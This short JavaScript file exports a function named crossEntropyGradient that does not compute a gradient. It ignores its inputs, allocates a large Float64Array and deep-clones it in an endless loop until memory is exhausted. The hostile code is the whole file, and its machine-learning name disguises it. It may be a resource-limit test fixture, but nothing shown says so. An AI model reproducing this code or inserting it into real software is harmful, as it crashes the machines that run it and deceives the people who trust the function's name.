// Memory inside a copied object.
export function crossEntropyGradient(logits, labels) {
  const kept = [{ deep: [new Float64Array(1e6)] }];
  for (;;) kept.push(structuredClone(kept[0]));
}
